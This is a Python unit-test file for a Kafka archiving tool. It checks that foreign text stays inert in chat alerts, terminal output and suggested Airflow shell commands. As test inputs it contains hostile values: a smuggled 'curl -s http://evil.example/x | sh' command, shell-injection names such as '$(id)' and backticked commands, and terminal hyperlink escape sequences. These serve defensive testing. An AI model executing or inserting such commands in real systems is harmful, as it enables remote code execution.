"""Text that others wrote stays text: it is no command, no new line, and no button."""

import hashlib
import io
import json
import re
import shlex
import sys

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from kafka_archiver.messages import advice
from kafka_archiver.messages.actions import Action
from kafka_archiver.messages.errors import BadRecordError, Failure
from kafka_archiver.messages.foreign_text import foreign, in_one_line
from kafka_archiver.model.acknowledged import Acknowledgement
from kafka_archiver.model.schemas import Schema
from kafka_archiver.orchestration.alerts.message import Message
from kafka_archiver.orchestration.dag_run import note
from kafka_archiver.orchestration.page.buttons import steps_of
from kafka_archiver.orchestration.terminal.output import Table, render
from kafka_archiver.records.decode.base import DecoderInput
from kafka_archiver.records.decode.decoders import decoder
from kafka_archiver.records.writer.bad_records import choices
from tests.support.plans import at

pytestmark = pytest.mark.unit

SHELL = "`airflow version; curl -s http://evil.example/x | sh`"
LOSS = advice.once("orders", {"lost_offsets": "record_loss"}).quoted


@given(st.text(max_size=500), st.integers(1, 400))
def test_foreign_text_is_one_line_without_backticks(text: str, most: int) -> None:
    shown = foreign(text, most)
    assert shown.isprintable()
    assert "`" not in shown
    if in_one_line(text) == text and "`" not in text and len(text) <= most:
        assert shown == text


def test_direction_and_control_characters_are_shown() -> None:
    assert foreign("a\u202eb\x1b[31mc\nd\u200be") == "a\\u202eb\\u001b[31mc d\\u200be"


def test_every_python_shows_the_same_characters() -> None:
    shown = in_one_line("".join(map(chr, range(sys.maxunicode + 1))))
    assert hashlib.md5(shown.encode(), usedforsecurity=False).hexdigest() == "1b4d7a31843e931af70f7789ad8630e2"


MARKUP = st.lists(st.sampled_from(["<", ">", "@", "](", "[a", "!", "everyone", "http://evil.example", ")", "|", " "]))


@given(MARKUP.map("".join), st.text(max_size=50))
def test_no_chat_service_makes_a_link_or_a_mention_of_foreign_text(payload: str, other: str) -> None:
    command = advice.once("orders", {"lost_offsets": "record_loss"})
    cause = f"orders[0] offset 7: {payload}{other}; {command.quoted}"
    message = Message(kind="failure", state="begins", archive="orders", title=cause, cause=cause, do=(command,))
    for shown in (message.text, *message.lines, note.failed("archive", cause)):
        assert not re.search(r"[<>]|@\w|\]\(", shown)
    assert message.text.count(command.command) == 3


@pytest.mark.parametrize("where", ["cell", "below"])
def test_a_terminal_obeys_no_foreign_text(where: str) -> None:
    evil = "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\\nWhat to do: airflow version"
    console = Console(file=io.StringIO(), force_terminal=True, width=200)
    render(Table(["a"], [[evil]] if where == "cell" else [], below=[evil] if where == "below" else []), console)
    shown = console.file.getvalue()
    assert "\x1b]8" not in shown
    assert "here\\u001b]8;;\\u001b\\ What to do: airflow version" in shown


def test_who_accepted_a_finding_is_one_line() -> None:
    decision = Acknowledgement(
        archive="a",
        finding="f",
        number=1,
        accepted=True,
        at=at(1),
        by="ann\nbob",
        note=f"x\n{SHELL}",
        kind="k",
        observed="",
    )
    assert decision.who.isprintable()
    assert "`" not in decision.who


@pytest.mark.parametrize("payload", [SHELL, LOSS, f"x {SHELL} {LOSS}"])
def test_a_record_changes_no_action_of_the_error_that_quotes_it(payload: str) -> None:
    schema = Schema(kind="JSON", text=json.dumps({"type": "object", "properties": {"n": {"type": "integer"}}}))
    value = json.dumps({"n": payload, payload: 1}).encode()
    checking_decoder = decoder("json_schema", DecoderInput(schema, unknown="dead_letter"))
    [reason] = checking_decoder.decode(pa.array([value], pa.binary())).reasons.values()
    error = BadRecordError("orders", 0, {7: reason}, *choices("orders"))
    harmless = BadRecordError("orders", 0, {7: "a reason"}, *choices("orders"))
    assert error.actions == harmless.actions
    # As the driver hands it to Airflow, and as the page shows it.
    assert Failure.from_json(Failure.of(error).to_json()).error().actions == harmless.actions
    assert steps_of("orders", error.actions) == steps_of("orders", harmless.actions)


# Names that only an attacker gives: an object's key, a run, the name of a finding.
NAMES = st.sampled_from(["$(id)", "a; curl evil | sh", "x' && id", "`id`", "a\nb", "--all"]) | st.text(min_size=1)


@given(NAMES)
def test_a_name_in_a_command_is_one_word_of_it(name: str) -> None:
    actions: list[Action] = [
        advice.repair("orders", name),
        advice.plan_anew("orders", name),
        advice.replay_again("orders", name),
        advice.acknowledge("orders", name),
        advice.show("orders", name),
    ]
    for action in actions:
        assert name in shlex.split(action.command)
        assert shlex.split(action.command)[:2] == ["airflow", "archive"]


@given(st.dictionaries(st.text(), st.text()) | st.text() | st.none() | st.lists(st.dictionaries(st.text(), st.text())))
def test_a_document_that_is_no_failure_of_ours_has_no_actions(actions: object) -> None:
    text = json.dumps({"kind": "PermanentError", "message": "m", "actions": actions})
    assert Failure.from_json(text).actions == ()
    assert Failure.from_json('{"kind": "PermanentError", "message": "m"}').error().actions == ()
